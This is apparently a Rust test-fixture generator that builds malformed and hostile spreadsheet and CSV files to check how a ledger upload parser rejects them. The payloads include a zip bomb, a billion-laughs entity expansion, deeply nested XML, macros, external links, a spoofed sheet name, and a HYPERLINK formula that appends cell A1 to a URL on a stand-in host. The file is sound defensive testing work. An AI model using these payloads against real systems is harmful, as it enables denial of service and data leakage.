//! Files that mean no good, or that suffered, under the headings of any ledger; and what is to be said of them.

use std::io::{Cursor, Write as _};

use rust_xlsxwriter::{Formula, Workbook};
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

/// A file, and what a right reading says.
#[derive(Debug)]
pub struct Hostile {
    /// What is the matter with it.
    pub what: &'static str,
    /// Its name.
    pub name: &'static str,
    /// Its content.
    pub bytes: Vec<u8>,
    /// The code it is refused with, or how many rows it has.
    pub said: Result<u64, &'static str>,
    /// Whose headings it has.
    pub turn: usize,
}

type Part<'a> = (&'a str, &'a [u8]);

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// All of them, each under the headings of one ledger: `ledgers` take turns.
pub fn files(ledgers: &[Vec<&str>]) -> impl Iterator<Item = Hostile> {
    (0..).map_while(|turn| {
        let headings = &ledgers[turn % ledgers.len()];
        let (what, name, bytes, said) = of_text(turn, headings).or_else(|| of_parts(turn - TEXTS, headings))?;
        Some(Hostile { what, name, bytes, said, turn: turn % ledgers.len() })
    })
}

type File = (&'static str, &'static str, Vec<u8>, Result<u64, &'static str>);

/// So many files are text.
const TEXTS: usize = 12;

fn of_text(turn: usize, headings: &[&str]) -> Option<File> {
    let head = headings.join(",");
    let row = vec!["x"; headings.len()].join(",");
    let utf16 = |text: &str| -> Vec<u8> {
        [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect()
    };
    let text = |text: String| text.into_bytes();
    Some(match turn {
        0 => ("0 bytes", "a.xlsx", Vec::new(), Err("ledger.file_empty")),
        1 => ("33 MiB", "a.csv", vec![b'x'; 33 << 20], Err("ledger.file_too_large")),
        2 => ("blank lines", "a.csv", text(head + &"\n".repeat(1_100_000) + "x,\n"), Err("ledger.too_many")),
        3 => ("a million rows of commas", "a.csv", text(head + "\n" + &",,,\n".repeat(1_000_000) + &row), Ok(1)),
        4 => ("more rows than are taken", "a.csv", text(head + "\n" + &"x,\n".repeat(200_001)), Err("ledger.too_many")),
        5 => ("a wrong ending", "a.xls", text(head + "\n" + &row), Ok(1)),
        6 => ("a picture", "a.xlsx", b"\x89PNG\r\n\x1a\n\0\0".to_vec(), Err("ledger.not_a_spreadsheet")),
        7 => ("UTF-16 from the other end", "a.csv", utf16(&(head + "\n" + &row)), Ok(1)),
        8 => ("no encoding", "a.csv", [head.as_bytes(), b"\n\xff\xff\x81,\n"].concat(), Err("ledger.encoding")),
        9 => ("NULs", "a.csv", text(head + "\n" + &row + "\0\n"), Err("ledger.not_a_spreadsheet")),
        10 => ("an open quote", "a.csv", text(head + "\n\"" + &"x,\n".repeat(9_000_000)), Err("ledger.quote_open")),
        11 => ("a web page", "a.xls", b"<html><table><tr><td>".to_vec(), Err("ledger.web_page")),
        _ => return None,
    })
}

fn of_parts(turn: usize, headings: &[&str]) -> Option<File> {
    let whole = || sheet(headings, "", &one_row(headings));
    let compound = |entry: &str| -> Vec<u8> {
        [0xCFD0, 0xE011].into_iter().chain(entry.encode_utf16()).flat_map(u16::to_le_bytes).collect()
    };
    Some(match turn {
        0 => ("a zip bomb", "a.xlsx", bomb(), Err("ledger.file_inflates")),
        1 => {
            ("one text of 100 MiB", "a.xlsx", sheet(headings, &" ".repeat(100 << 20), ""), Err("ledger.file_inflates"))
        }
        2 => ("a long text in every cell", "a.xlsx", echo(headings), Err("ledger.too_much_text")),
        3 => ("a million empty rows", "a.xlsx", empty_rows(headings), Ok(1)),
        4 => ("formulas", "a.xlsx", formulas(headings), Ok(1)),
        5 => ("external links", "a.xlsx", links(headings), Ok(1)),
        6 => ("macros", "a.xlsm", with(&whole(), &[("xl/vbaProject.bin", b"x")]), Err("ledger.macros")),
        7 => ("cut off", "a.xlsx", whole()[..700].to_vec(), Err("ledger.damaged")),
        8 => {
            let laughs = with(&whole(), &[("xl/sharedStrings.xml", billion_laughs().as_bytes())]);
            ("a billion laughs", "a.xlsx", laughs, Err("ledger.document_type"))
        }
        9 => ("16,384 columns", "a.xlsx", columns(headings), Ok(1)),
        10 => ("deeply nested", "a.xlsx", nested(headings), Ok(1)),
        11 => ("a password", "a.xlsx", compound("EncryptedPackage"), Err("ledger.password")),
        12 => ("the last cell of an old sheet", "a.xls", far_corner(), Err("ledger.too_many")),
        13 => ("an odd name of a sheet", "a.xlsx", odd_name(headings), Ok(1)),
        _ => return None,
    })
}

fn billion_laughs() -> String {
    let more = |n: u32| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10));
    let laughs: String = (1..9).map(more).collect();
    format!("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY l0 \"ha\">{laughs}]><sst>&l8;</sst>")
}

/// A packed file of these parts.
fn packed(parts: &[Part<'_>]) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        archive.start_file(*name, SimpleFileOptions::default()).expect("a part");
        archive.write_all(bytes).expect("a part");
    }
    archive.finish().expect("an archive").into_inner()
}

/// The parts of a file, some of them others.
fn with(whole: &[u8], others: &[Part<'_>]) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(whole)).expect("an archive");
    let mut changed = ZipWriter::new(Cursor::new(Vec::new()));
    for place in 0..archive.len() {
        let part = archive.by_index_raw(place).expect("a part");
        if !others.iter().any(|(name, _)| part.name().is_ok_and(|known| known == *name)) {
            changed.raw_copy_file(part).expect("a part");
        }
    }
    for (name, bytes) in others {
        changed.start_file(*name, SimpleFileOptions::default()).expect("a part");
        changed.write_all(bytes).expect("a part");
    }
    changed.finish().expect("an archive").into_inner()
}

/// A workbook by hand: headings in the first row, then `rows` as they are; `odd` stands before all.
fn sheet(headings: &[&str], odd: &str, rows: &str) -> Vec<u8> {
    let cell = |text: &&str| format!("<c t=\"inlineStr\"><is><t>{text}</t></is></c>");
    let first: String = headings.iter().map(cell).collect();
    let page =
        format!("<worksheet xmlns=\"{MAIN}\">{odd}<sheetData><row r=\"1\">{first}</row>{rows}</sheetData></worksheet>");
    let named = named("Sheet1", &page);
    packed(&named.iter().map(|(name, text)| (*name, text.as_bytes())).collect::<Vec<_>>())
}

fn named(sheet: &str, page: &str) -> [(&'static str, String); 6] {
    let book = format!(
        "<workbook xmlns=\"{MAIN}\" xmlns:r=\"{RELATIONS}\"><sheets><sheet name=\"{sheet}\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>"
    );
    let relation = |id: &str, kind: &str, target: &str| {
        format!("<Relationship Id=\"{id}\" Type=\"{RELATIONS}/{kind}\" Target=\"{target}\"/>")
    };
    let all = |relations: String| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{relations}</Relationships>"
        )
    };
    let of_book =
        relation("r1", "worksheet", "worksheets/sheet1.xml") + &relation("r2", "sharedStrings", "sharedStrings.xml");
    [
        ("[Content_Types].xml", "<Types/>".to_owned()),
        ("_rels/.rels", all(relation("r1", "officeDocument", "xl/workbook.xml"))),
        ("xl/workbook.xml", book),
        ("xl/_rels/workbook.xml.rels", all(of_book)),
        ("xl/sharedStrings.xml", format!("<sst xmlns=\"{MAIN}\"><si><t>{}</t></si></sst>", "长".repeat(10_000))),
        ("xl/worksheets/sheet1.xml", page.to_owned()),
    ]
}

fn one_row(headings: &[&str]) -> String {
    let cells: String = headings.iter().map(|_| "<c t=\"inlineStr\"><is><t>x</t></is></c>").collect();
    format!("<row r=\"2\">{cells}</row>")
}

/// A mebibyte of blanks, 257 times.
fn bomb() -> Vec<u8> {
    let blank = packed(&[("[Content_Types].xml", b"<Types/>"), ("0", &vec![b' '; 1 << 20])]);
    let mut blank = ZipArchive::new(Cursor::new(blank)).expect("an archive");
    let mut bomb = ZipWriter::new(Cursor::new(Vec::new()));
    for part in 0..257 {
        bomb.raw_copy_file_rename(blank.by_index(1).expect("a part"), format!("xl/{part}.xml")).expect("a part");
    }
    bomb.finish().expect("an archive").into_inner()
}

/// The same shared text in a hundred thousand cells.
fn echo(headings: &[&str]) -> Vec<u8> {
    let row = |number: u32| format!("<row r=\"{number}\"><c t=\"s\"><v>0</v></c></row>");
    sheet(headings, "", &(2..100_000).map(row).collect::<String>())
}

/// Rows and cells with a format and nothing else, then one that holds something.
fn empty_rows(headings: &[&str]) -> Vec<u8> {
    let row = |number: u32| format!("<row r=\"{number}\"><c s=\"0\"/></row>");
    let rows: String = (3..=1_048_576).map(row).collect();
    sheet(headings, "", &(one_row(headings) + &rows))
}

/// What a formula computed last is its value, whatever it would compute.
fn formulas(headings: &[&str]) -> Vec<u8> {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    for (place, heading) in (0..).zip(headings) {
        page.write_string(0, place, *heading).expect("a cell");
        let formula = Formula::new("=HYPERLINK(\"http://example.invalid/\"&A1,\"x\")").set_result("=1+1");
        page.write_formula(1, place, formula).expect("a cell");
    }
    book.save_to_buffer().expect("a workbook")
}

/// A formula that would read another file, and the part that names it.
fn links(headings: &[&str]) -> Vec<u8> {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    for (place, heading) in (0..).zip(headings) {
        page.write_string(0, place, *heading).expect("a cell");
        page.write_formula(1, place, Formula::new("=[1]Sheet1!A1").set_result("x")).expect("a cell");
    }
    let link =
        format!("<externalLink xmlns=\"{MAIN}\"><externalBook xmlns:r=\"{RELATIONS}\" r:id=\"r1\"/></externalLink>");
    with(&book.save_to_buffer().expect("a workbook"), &[("xl/externalLinks/externalLink1.xml", link.as_bytes())])
}

fn columns(headings: &[&str]) -> Vec<u8> {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    for place in 0..16_384_u16 {
        let heading =
            headings.get(usize::from(place)).map_or_else(|| format!("多余{place}"), |heading| (*heading).to_owned());
        page.write_string(0, place, heading).expect("a cell");
        page.write_string(1, place, "x").expect("a cell");
    }
    book.save_to_buffer().expect("a workbook")
}

fn nested(headings: &[&str]) -> Vec<u8> {
    let (open, close) = ("<x>".repeat(500_000), "</x>".repeat(500_000));
    sheet(headings, &format!("<extLst>{open}{close}</extLst>"), &one_row(headings))
}

fn odd_name(headings: &[&str]) -> Vec<u8> {
    let page =
        String::from_utf8(part(&sheet(headings, "", &one_row(headings)), "xl/worksheets/sheet1.xml")).expect("text");
    let named = named("=1+1/:*?[]\\&lt;b&gt;'\u{202e}很长很长很长很长很长很长很长很长很长的名称", &page);
    packed(&named.iter().map(|(name, text)| (*name, text.as_bytes())).collect::<Vec<_>>())
}

fn part(whole: &[u8], name: &str) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(whole)).expect("an archive");
    let mut bytes = Vec::new();
    std::io::copy(&mut archive.by_name(name).expect("a part"), &mut bytes).expect("it unpacks");
    bytes
}

/// The first and the last cell of an old workbook's sheet: the parser would make room for all between.
fn far_corner() -> Vec<u8> {
    let record = |kind: u16, data: &[u8]| [&kind.to_le_bytes()[..], &(data.len() as u16).to_le_bytes(), data].concat();
    let number =
        |row: u16, column: u16| record(0x0203, &[&row.to_le_bytes()[..], &column.to_le_bytes(), &[0; 10]].concat());
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("a file");
    let stream = [record(0x0809, &[0; 16]), number(0, 0), number(65_535, 255)].concat();
    file.create_stream("Workbook").expect("a stream").write_all(&stream).expect("a stream");
    file.into_inner().into_inner()
}
